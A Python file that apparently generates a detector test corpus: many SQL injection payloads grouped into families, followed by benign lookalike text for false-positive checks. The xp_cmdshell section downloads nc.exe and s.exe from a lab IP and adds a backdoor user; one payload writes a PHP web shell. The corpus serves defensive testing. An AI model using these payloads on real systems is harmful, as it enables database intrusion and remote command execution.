    "' or username=x'61646d696e'#",
    "' or username=b'0110000101100100011011010110100101101110'#",
    "' union select unhex('61646d696e'),2-- -",
    "1' union select 1,from_base64('cm9vdA==')#",
    "' union select 1,char(60,63,112,104,112,32,112,104,112,105,110,102,111,40,41,59,32,63,62)-- -",
    "-1' union select 1,0x3c3f706870206576616c28245f504f53545b615d293b3f3e into outfile '/var/www/html/a.php'-- -",
    "1' and hex(substr(user(),1,1))=72#",
    # SQL Server: the statement is hex or CHAR-built and run with EXEC (the mass-injection case study)
    "'; DECLARE @s varchar(8000); SET @s=0x73656c65637420404076657273696f6e; EXEC(@s)--",
    "';EXEC(CHAR(87)+CHAR(65)+CHAR(73)+CHAR(84)+CHAR(70)+CHAR(79)+CHAR(82)+' DELAY ''0:0:5''')--",
    "' OR name=NCHAR(97)+NCHAR(100)+NCHAR(109)+NCHAR(105)+NCHAR(110)--",
    "1 UNION SELECT CONVERT(varchar,0x61646D696E),NULL--",
    # Oracle: CHR concatenation
    "' UNION SELECT CHR(97)||CHR(100)||CHR(109),NULL FROM dual--",
    "' OR username=CHR(97)||CHR(100)||CHR(109)||CHR(105)||CHR(110)--",
    # PostgreSQL: CHR, dollar quoting, escape strings, decode()
    "' UNION SELECT CHR(65)||CHR(66),NULL--",
    "' OR username=$$admin$$--",
    "' OR username=E'\\x61dmin'--",
    "1 UNION SELECT convert_from(decode('cm9vdA==','base64'),'utf8'),NULL--",
    # SQLite
    "' UNION SELECT X'61646d696e',NULL--",
    "' or username=char(97,100,109,105,110)--",
    # double URL encoding: the application decodes a second time after the WAF
    "1%27%20or%201%3D1--%20-",
    "%2527%20union%20select%201,2--%20-",
    # Unicode normalisation chapter: a fullwidth apostrophe the application folds to ' (NFKC)
    "\uff07 or 1=1-- -",
    # web security academy "SQL injection with filter bypass via XML encoding" (the stock check, PostgreSQL)
    ('<?xml version="1.0" encoding="UTF-8"?><stockCheck><productId>1</productId><storeId>1 &#x55;NION '
     '&#x53;ELECT username || &#x27;~&#x27; || password FROM users</storeId></stockCheck>', *XD),
    ('<?xml version="1.0" encoding="UTF-8"?><stockCheck><productId>2</productId><storeId>1 &#85;NION '
     '&#83;ELECT NULL</storeId></stockCheck>', *XD),
    "-1' union select 1,group_concat(0x3c62723e,username,0x3a,password) from users-- -",
]

# stored-procedure/xp_cmdshell: from SQL to the operating system (exam notes, one chapter per database)
PROC: list[Entry] = [
    # SQL Server: xp_cmdshell, enabled first if needed
    "'; EXEC xp_cmdshell 'whoami'--",
    "1; EXEC master..xp_cmdshell 'ping -n 1 10.10.14.2'--",
    "'; EXEC sp_configure 'show advanced options',1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell',1; "
    "RECONFIGURE--",
    "1; exec master.dbo.xp_cmdshell 'powershell -c iwr http://10.10.14.2/nc.exe -o C:\\Windows\\Temp\\nc.exe'--",
    "'; EXEC master.dbo.xp_cmdshell 'certutil -urlcache -f http://10.10.14.2/s.exe C:\\Temp\\s.exe'--",
    "'; EXEC xp_cmdshell 'type C:\\inetpub\\wwwroot\\web.config'--",
    "'; EXECUTE AS LOGIN='sa'; EXEC xp_cmdshell 'whoami'--",
    "1; EXEC ('xp_cmdshell ''net user''') AT [LINKEDSRV]--",
    # SQL Server: OLE automation, external scripts, the registry, services
    "';EXEC sp_configure 'Ole Automation Procedures',1;RECONFIGURE--",
    "'; DECLARE @o INT; EXEC sp_OACreate 'WScript.Shell',@o OUT; "
    "EXEC sp_OAMethod @o,'Run',NULL,'cmd /c whoami > C:\\inetpub\\wwwroot\\w.txt'--",
    "'; EXEC sp_execute_external_script @language=N'Python',@script=N'import os; os.system(\"whoami\")'--",
    "1; EXEC xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\\CurrentControlSet\\Services\\MSSQLSERVER','ObjectName'--",
    "'; EXEC master..xp_servicecontrol 'start','schedule'--",
    "1; EXEC sp_makewebtask 'C:\\inetpub\\wwwroot\\t.html','SELECT * FROM users'--",
    "1; EXEC sp_addlogin 'hacker','P@ss1'--",
    "1; EXEC master..sp_password NULL,'newpass','sa'--",
    "'; EXEC sp_linkedservers--",
    # PostgreSQL: COPY FROM PROGRAM and a C function from libc
    "'; DROP TABLE IF EXISTS cmd; CREATE TABLE cmd(o text); COPY cmd FROM PROGRAM 'id'; SELECT * FROM cmd--",
    "'; CREATE OR REPLACE FUNCTION system(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6','system' "
    "LANGUAGE 'c' STRICT; SELECT system('id')--",
    # MySQL user-defined functions (lib_mysqludf_sys)
    "1'; CREATE FUNCTION sys_exec RETURNS int SONAME 'lib_mysqludf_sys.so';#",
    "1' union select 1,sys_eval('whoami')#",
    "1'; select sys_exec('id > /tmp/out');#",
    # Oracle: Java and an autonomous PL/SQL block from inside a query
    "'||DBMS_JAVA.RUNJAVA('oracle/aurora/util/Wrapper /bin/bash -c id')||'",
    "'||dbms_xmlquery.newcontext('declare PRAGMA AUTONOMOUS_TRANSACTION; begin execute immediate "
    "''grant dba to public''; commit; end;')||'",
    # SQLite: load an extension the attacker uploaded
    "1 UNION SELECT load_extension('/tmp/evil.so','sqlite3_x_init'),NULL--",
    "1; EXEC sp_OAGetErrorInfo--",
    "'; EXEC master..xp_cmdshell 'net user backdoor P@ssw0rd /add'--",
]

# having/group-by/order-by probing: the column-count step and the ORDER BY and LIMIT contexts
ORDER: list[Entry] = [
    # web security academy and sqli-labs: ORDER BY until the error
    "' ORDER BY 1--",
    "' ORDER BY 2--",
    "' ORDER BY 3--",
    "1' order by 4 -- -",
    "1' ORDER BY 1,2,3,4,5,6,7,8,9,10--",
    "1' order by 1 desc-- -",
    "1' group by 1,2,3#",
    # the handbook's SQL Server HAVING walk: each error names the next column
    "' HAVING 1=1--",
    "' GROUP BY users.id HAVING 1=1--",
    "' GROUP BY users.id, users.username HAVING 1=1--",
    "1 HAVING 1=1",
    "1' GROUP BY password HAVING password LIKE 'a%'--",
    # injection into the sort parameter itself (no quote to close): boolean by sort order
    "(CASE WHEN (1=1) THEN id ELSE name END)",
    "(CASE WHEN (SELECT SUBSTRING(password,1,1) FROM users WHERE username='admin')='a' THEN name ELSE email END)",
    "name ASC,IF(1=1,id,name)",
    "1,(select case when (1=1) then 1 else 1*(select 1 union select 2) end)",
    "(CASE WHEN (SELECT current_user)='postgres' THEN id ELSE price END)",
    "CASE WHEN (SELECT substr(sql,1,1) FROM sqlite_master LIMIT 1)='C' THEN id ELSE name END",
    "(SELECT CASE WHEN 1=1 THEN 1 ELSE 1/0 END)",
    "email DESC, (SELECT CASE WHEN (SUBSTR(user,1,1)='S') THEN 1 ELSE 1/0 END FROM dual)",
    "id,(select 1 from (select sleep(3))x)",
    "1 ORDER BY CAST(@@version AS int)",
    # LIMIT context (MySQL 5.x course note): PROCEDURE ANALYSE with an error function
    "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
    "1' limit 1 into @a,@b#",
    # the double-query error through GROUP BY (MySQL)
    "1' group by concat(version(),floor(rand(0)*2)) having min(0)#",
    "' GROUP BY column_name HAVING COUNT(*)>1--",
    "1 ORDER BY (SELECT 1 FROM users WHERE username='admin')",
    "1' order by (select 1 from dual where database()='dvwa')#",
]

# like/between/in operators: comparisons the evasion chapter uses when '=' is filtered, and wildcard extraction
OPERATORS: list[Entry] = [
    # LIKE with wildcards (MySQL, any database)
    "' OR username LIKE '%admin%'--",
    "%' OR 1=1 OR name LIKE '%",
    "1' and database() like 'dv%'#",
    "1' and user() like 'root%'#",
    "1' and (select password from users where username='admin') like 'a%'#",
    "1' and (select count(*) from users where password like '_____')>0#",
    "1' and (select 1 from users where username='administrator' and password like binary 'a%')=1#",
    "' OR email LIKE '%@%' --",
    "1' or password like '%' -- -",
    "' OR username NOT LIKE 'zzz'--",
    # BETWEEN as a replacement for > and < (filter-evasion chapter)
    "1' and substr(database(),1,1) between 'a' and 'm'#",
    "1' and ascii(substr(user(),1,1)) between 100 and 120#",
    "1' and 2 between 1 and 3#",
    "1' and 1 not between 2 and 3#",
    "0 OR id BETWEEN 0 AND 99999",
    # IN lists and subqueries
    "1' and 'a' in (select substr(password,1,1) from users)#",
    "1 AND 1 IN (SELECT 1 FROM users WHERE username='admin')",
    "' OR 1 IN (1)--",
    "' OR 'admin' IN (SELECT username FROM users)--",
    "' OR username IN ('admin','administrator','root')--",
    # regular expressions: MySQL REGEXP/RLIKE, Oracle REGEXP_LIKE, PostgreSQL ~ and SIMILAR TO, SQLite GLOB
    "1' and database() regexp '^d'#",
    "1' and user() rlike '^r'#",
    "' AND REGEXP_LIKE((SELECT banner FROM v$version WHERE rownum=1),'^Oracle')--",
    "' AND (SELECT username FROM users WHERE rownum=1) LIKE 'A%'--",
    "' AND current_user ILIKE 'post%'--",
    "' AND version() SIMILAR TO '%PostgreSQL%'--",
    "' AND current_database() ~ '^d'--",
    "' AND sqlite_version() GLOB '3.*'--",
    # SQL Server LIKE with bracket ranges
    "' AND SYSTEM_USER LIKE 'sa%'--",
    "' AND DB_NAME() LIKE 'm[a-m]%'--",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("sqli", "libinjection-sqli", LIBINJECTION),
    ("sqli", "sql-tautology-boolean", TAUTOLOGY),
    ("sqli", "sql-comment-sequence", COMMENT),
    ("sqli", "union-select", UNION),
    ("sqli", "stacked-queries", STACKED),
    ("sqli", "time-based-blind", TIME),
    ("sqli", "error-based", ERROR),
    ("sqli", "out-of-band", OOB),
    ("sqli", "information-schema-probing", CATALOG),
    ("sqli", "mysql-comment-obfuscation", MYCOMMENT),
    ("sqli", "function-based-probing", FUNCTION),
    ("sqli", "sql-authentication-bypass", AUTH),
    ("sqli", "nosql-injection", NOSQL),
    ("sqli", "hex-char-encoding", ENCODING),
    ("sqli", "stored-procedure-xp-cmdshell", PROC),
    ("sqli", "having-group-order-by-probing", ORDER),
    ("sqli", "like-between-in-operators", OPERATORS),
]
# bracket-operator pairs written as `name=value`, sent unquoted
RAW_KV_SUBS = {"nosql-injection"}


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    names = ["id", "q", "username", "password", "category", "sort", "search", "user", "TrackingId"]
    kv_safe = "=&[]._-:/'*$!(),;{}~@^"
    raw_places = ("form", "rs-param-name")
    documents = True   # the academy's stock-check document goes as the whole XML body
    unique = True
    path_forbids = "/?#%"
    xml_controls = "\n\t"
    raw_body_forbids = ""


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (Slack chat and bios about security training, searches by certification,
# links to course and documentation pages, code-review prose, profiles, course-material uploads, ordinary headers)
CHAT = [
    # study groups and exam plans
    "study group for the OSCP starts Tuesday 18:00, we're doing the SQL injection module first",
    "booked my OSWE exam for 14 March, wish me luck",
    "anyone else taking the CEH in April? looking for someone to swap flash cards with",
    "passed eJPT this morning! the web part was mostly enumeration",
    "just finished all the SQL injection labs on the web security academy, the blind ones took forever",
    "the academy's 'Blind SQL injection with time delays' lab is a good intro to out-of-band thinking",
    "Chapter 9 of the Web Application Hacker's Handbook is 'Attacking Data Stores', read it before Thursday",
    "reading group this week: chapters 4 and 5 of SQL Injection Attacks and Defense",
    "can someone explain the difference between error-based and blind SQL injection? the slides skip it",
    "what does 'second-order' SQL injection actually mean? stored first, executed later?",
    "is NoSQL injection really a thing with Mongo or just a marketing term?",
    "for the assignment, do we have to cover stored procedures or only prepared statements?",
    "the lecture on UNION-based extraction was recorded, link is in the course channel",
    "the professor said ORDER BY can't be parameterised in most drivers, so whitelist the column names",
    "TA office hours moved to Friday 2pm, room B-204",
    "DVWA is running on the lab VM again, credentials are in the course wiki",
    "please don't point the scanners at anything outside the lab range 10.10.0.0/16",
    "reminder: the sqli-labs container resets every night at 02:00",
    "WebGoat 2023.8 is out, the SQL injection lessons were reorganised",
    "the Juice Shop scoreboard is at /#/score-board on the training instance",
    "who has the bWAPP VM image? my download keeps failing",
    "HTB Academy's SQL Injection Fundamentals module is free this month",
    "the workshop at the conference was great, they covered WAF evasion at a high level",
    "our internal 'Secure Coding 101' course has a new chapter on input validation",
    "the quiz question about LIKE wildcards tripped half the class",
    "what's the difference between BETWEEN and >= <= in Postgres? asking for the homework",
    "is information_schema part of the SQL standard or MySQL only?",
    "in SQL Server, is xp_cmdshell still disabled by default? the book says yes",
    "the exam guide says no automated tools like sqlmap on the exam, manual only",
    "flashcards for CEH module 15 (SQL injection) are in the shared drive under Training/CEH",
    "I keep confusing HAVING and WHERE, anyone have a good mnemonic?",
    "group by + having example in the slides is wrong, it filters before aggregation",
    "is pg_sleep useful for anything except testing? genuinely curious",
    "homework 3 due Sunday 23:59, union select chapter plus the quiz",
    "the course certificate PDFs were emailed out, check spam",
    "we should run an internal CTF after everyone finishes the training",
    "new hire onboarding includes the OWASP Top 10 video series, about 3 hours total",
    "A03:2021 Injection covers SQL, NoSQL, OS command and LDAP injection",
    "I'm presenting 'Parameterised queries: why string concatenation hurts' at the brown bag on Friday",
    "the SANS SEC542 books arrived, 6 of them, heavy",
    "OSCP lab report template is in Confluence, don't forget the screenshots",
    "does anyone know if the GWAPT covers NoSQL at all?",
    # code review and engineering talk
    "code review: please sanitise the sort parameter, map it to a fixed list of columns",
    "LGTM, but use a bound parameter for the search term instead of an f-string",
    "nit: the comment says 'escape quotes' but we should just use placeholders",
    "we moved all raw SQL to SQLAlchemy Core, no more string formatting in queries",
    "the ORM's .order_by() takes a column object, not user input, so we're fine there",
    "can we add a linter rule that flags execute() with string concatenation?",
    "the report filter uses LIKE with a user term, remember to escape % and _ in the term",
    "the migration adds an index on users(email), should speed up the search",
    "select count(*) on the events table takes 40 seconds, we need a summary table",
    "db migration failed with: ERROR: relation \"users_backup\" already exists",
    "prod log: 'You have an error in your SQL syntax; check the manual that corresponds to your MySQL server "
    "version' from the legacy reports app, ticket filed",
    "got 'ORA-00933: SQL command not properly ended' from the Oracle export job again",
    "Postgres says 'column \"created_at\" must appear in the GROUP BY clause or be used in an aggregate function'",
    "the nightly job logs 'Lock wait timeout exceeded; try restarting transaction'",
    "the union of both lists is what we want, not the intersection",
    "can we drop the old sessions table after the release? it's been unused since June",
    "I'll update the users table schema doc once the PR lands",
    "mongo query for the dashboard uses $match then $group, returns in 200ms",
    "please don't store passwords in the users collection even hashed, use the auth service",
    "the WAF blocked my bug report because I pasted a stack trace, can an admin check?",
    # general chat that shares the vocabulary
    "lunch at the union station food court?",
    "the student union is hosting the career fair on Wednesday",
    "select your preferred date for the offsite in the poll",
    "drop me a line when you're back",
    "order by Thursday if you want a team hoodie",
    "1 or 2 people needed for the hiring panel on Monday",
    "who's the admin for the training Slack workspace?",
]

SEARCHES = [
    "OSCP",
    "OSWE",
    "OSCP OSWE",
    "CEH",
    "eJPT",
    "GWAPT",
    "CISSP",
    "Security+",
    "CompTIA PenTest+",
    "CREST CRT",
    "SANS instructor",
    "security trainer",
    "secure coding",
    "application security",
    "AppSec",
    "web security academy",
    "HTB Academy",
    "offensive security",
    "SQL",
    "SQL Server DBA",
    "PostgreSQL",
    "MongoDB",
    "Oracle DBA",
    "database admin",
    "teaching assistant",
    "course coordinator",
    "union",
    "Union Square office",
    "Order management",
    "select committee",
    "Like",
    "between",
    "O'Brien",
    "D'Souza",
    "admin",
    "training team",
]

URLS = [
    "https://portswigger.net/web-security/sql-injection",
    "https://portswigger.net/web-security/sql-injection/blind",
    "https://portswigger.net/web-security/sql-injection/union-attacks",
    "https://portswigger.net/web-security/sql-injection/cheat-sheet",
    "https://portswigger.net/web-security/nosql-injection",
    "https://owasp.org/www-community/attacks/SQL_Injection",
    "https://owasp.org/Top10/A03_2021-Injection/",
    "https://cheatsheetseries.owasp.org/cheatsheets/SQL_Injection_Prevention_Cheat_Sheet.html",
    "https://cheatsheetseries.owasp.org/cheatsheets/Query_Parameterization_Cheat_Sheet.html",
    "https://owasp.org/www-project-web-security-testing-guide/",
    "https://owasp.org/www-project-juice-shop/",
    "https://owasp.org/www-project-webgoat/",
    "https://github.com/digininja/DVWA",
    "https://www.offsec.com/courses/pen-200/",
    "https://www.offsec.com/courses/web-300/",
    "https://academy.hackthebox.com/course/preview/sql-injection-fundamentals",
    "https://www.sans.org/cyber-security-courses/web-app-penetration-testing-ethical-hacking/",
    "https://www.postgresql.org/docs/current/functions-matching.html",
    "https://www.postgresql.org/docs/current/queries-order.html",
    "https://dev.mysql.com/doc/refman/8.0/en/information-schema.html",
    "https://dev.mysql.com/doc/refman/8.0/en/comments.html",
    "https://learn.microsoft.com/en-us/sql/relational-databases/system-stored-procedures/xp-cmdshell-transact-sql",
    "https://www.mongodb.com/docs/manual/reference/operator/query/",
    "https://docs.sqlalchemy.org/en/20/core/tutorial.html",
    "https://www.psycopg.org/docs/usage.html#query-parameters",
    "https://xkcd.com/327/",
]

PROSE = [
    "Training plan Q3: OWASP Top 10 refresher, then the SQL injection module, then secure code review",
    "Course outline: 1. Introduction 2. Injection basics 3. Blind techniques 4. Prevention 5. Lab exam",
    "Module 6 - Union-based SQL injection (theory only, labs in module 7)",
    "Chapter 9: Attacking Data Stores - read sections 9.1 to 9.4 before the seminar",
    "Exam date moved to 12 June; the practical part is 24 hours plus 24 hours for the report",
    "Assignment 2: explain why prepared statements prevent SQL injection, max 1,500 words",
    "Lab rules: only attack hosts in the 10.10.0.0/16 lab range; never the university network",
    "Reviewer note: the search endpoint concatenates the term into the query; switch to a bound parameter",
    "Reviewer note: validate the sort field against an allow-list (name, email, created_at)",
    "Reviewer note: the LIKE pattern needs escaping of % and _ before binding",
    "Incident summary: the legacy report page returned a MySQL syntax error to users; fixed by parameterising",
    "Postmortem: the nightly export failed with ORA-01722 invalid number after a schema change",
    "Support ticket: user O'Neil cannot save her profile, the apostrophe in the name triggers a validation error",
    "Support ticket: search for 'Union Street' returns nothing, please check the address index",
    "Support ticket: customer asks whether we store card numbers in the database (we do not)",
    "Trainer bio for the conference booklet: 12 years in application security, OSCP, OSWE, GWAPT",
    "Workshop abstract: hands-on introduction to injection flaws using deliberately vulnerable apps",
    "Workshop prerequisites: laptop with Docker, 8 GB RAM, basic SQL (SELECT, WHERE, JOIN, GROUP BY)",
    "Syllabus week 5: aggregation with GROUP BY and HAVING; week 6: subqueries with IN and EXISTS",
    "Quiz: which of these statements uses BETWEEN correctly? Answer key in the instructor folder",
    "Note for TAs: grade the stored procedure question on reasoning, not syntax",
    "Certification reimbursement policy: one exam attempt per year, up to 1,500 EUR",
    "Onboarding checklist: secure coding course, data protection training, phishing awareness",
    "Please sanitise input at the boundary and encode output at the point of use",
    "The admin panel search now supports quoted phrases and a minus sign to exclude words",
    "Database naming convention: snake_case tables, singular names, no reserved words like order or user",
    "Reminder: the security champions meeting is every second Wednesday",
    "Course feedback: the NoSQL injection session was too short, more examples please",
    "Course feedback: loved the time-based blind demo, the labs were too slow on the shared VM",
    "Mentoring pairs for the AppSec guild are listed in the wiki",
    "Draft blog post: what we learned from running a SQL injection workshop for 40 developers",
    "Meeting notes: agreed to replace string-built queries in the reporting service by end of Q2",
    "Vendor training quote: two-day secure coding course for 15 developers, on site",
    "Note: the DBA team owns the stored procedures; changes go through their review",
    "Hiring: application security engineer, experience with code review and threat modelling",
]

PROFILES = [
    ("Priya Raman, OSCP, OSWE", "Bengaluru, India"),
    ("Tom O'Connor (Security Trainer)", "12 Union Street, Aberdeen"),
    ("Dr. Anna Kowalska, Lecturer in Computer Security", "ul. Piotrkowska 104, Lodz"),
    ("Marcus Lee - CEH, Security+", "88 Market St, San Francisco"),
    ("Fatima Al-Sayed, AppSec Lead", "Dubai Internet City"),
    ("Jean-Luc Martin, formateur securite", "5 Rue de la Paix, Paris"),
    ("Sofia Rossi, Teaching Assistant", "Via Roma 1, Milano"),
    ("Kenji Watanabe, GWAPT", "Shibuya, Tokyo"),
    ("Emily D'Souza, Secure Coding Champion", "Union Square, New York"),
    ("Ahmed Hassan, PenTest+ candidate", "Cairo"),
    ("Liam Byrne (DBA, PostgreSQL)", "Dublin 2"),
    ("Grace Okafor, OWASP chapter lead", "Lagos"),
    ("Mateo Garcia, student", "Calle Mayor 3, Madrid"),
    ("Hannah Schmidt, CISSP", "Berlin"),
    ("Oliver Brown, Course Coordinator", "Order of St John building, London"),
    ("Nadia Petrova, SQL Server DBA", "Sofia"),
    ("Chen Wei, MongoDB certified developer", "Shanghai"),
    ("Isabel Costa, instructor (Web Security)", "Lisbon"),
    ("Ravi Patel, eJPT", "Leicester"),
    ("Zoe Miller - Select Committee clerk", "Westminster, London"),
]

UPLOAD_NAMES = [
    "OSCP_study_plan.xlsx",
    "sql-injection-module-slides.pdf",
    "chapter09_attacking_data_stores_notes.docx",
    "lab-guide-union-select.pdf",
    "blind_sqli_timing_chart.png",
    "week5_group_by_having_exercises.sql",
    "homework3_prepared_statements.zip",
    "secure-coding-101-certificate.pdf",
    "CEH_module15_flashcards.csv",
    "workshop_injection_flaws_2024.pptx",
    "nosql_injection_notes.md",
    "course_feedback_Q3.xlsx",
    "exam_report_template_v2.docx",
    "OWASP_Top10_2021_A03_Injection.pdf",
    "dvwa_setup_instructions.txt",
    "stored_procedures_review_checklist.pdf",
    "trainers_bios_conference.docx",
    "study-group-schedule (1).ics",
    "O'Reilly_SQL_Cookbook_chapter3.pdf",
    "like_between_in_quiz_answers.pdf",
]

BENIGN_HEADERS = [
    ("Referer", "https://portswigger.net/web-security/sql-injection/union-attacks"),
    ("Referer", "https://owasp.org/Top10/A03_2021-Injection/"),
    ("Referer", "https://academy.hackthebox.com/module/33/section/177"),
    ("Accept-Language", "en-GB,en;q=0.9,pl;q=0.7"),
    ("Cookie", "session=abc123; sort=name; order=asc"),
    ("Cookie", "session=abc123; course=oscp; module=sql-injection"),
    ("Cookie", "session=abc123; last_search=union%20square; tz=Europe%2FLondon"),
    ("X-Requested-With", "XMLHttpRequest"),
    ("If-Modified-Since", "Tue, 04 Jun 2024 08:00:00 GMT"),
    ("X-Forwarded-For", "198.51.100.77"),
    ("Cache-Control", "no-cache"),
    ("DNT", "1"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
